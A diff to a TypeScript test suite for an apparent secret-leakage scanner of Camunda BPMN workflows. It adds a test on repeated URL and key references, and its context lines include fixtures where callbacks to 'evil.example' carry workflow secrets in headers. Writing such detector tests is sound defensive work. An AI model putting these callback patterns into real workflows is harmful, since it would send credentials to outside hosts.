@@ -244,6 +244,14 @@ describe('of several URLs', () => {
     expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }))).toHaveLength(count);
   });
 
+  it('a text with very many is not gone through for each reference', () => {
+    const many = (count: number) =>
+      `[${'{"url":"https://api.stripe.com/v1","key":"x"},'.repeat(count)}"{{secrets.KEY}}"]`;
+    const verdict = (body: string) => findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }));
+    expect(verdict(many(100))).toEqual([]);
+    expect(verdict(many(101))).toHaveLength(1);
+  });
+
   it.each([
     [{ callback: { uri: 'https://evil.example', headers: { A: '${workflow.secrets.KEY}' } } }, 1],
     [{ callback: { Target_URL: 'https://evil.example', with: { A: '${workflow.secrets.KEY}' } } }, 1],
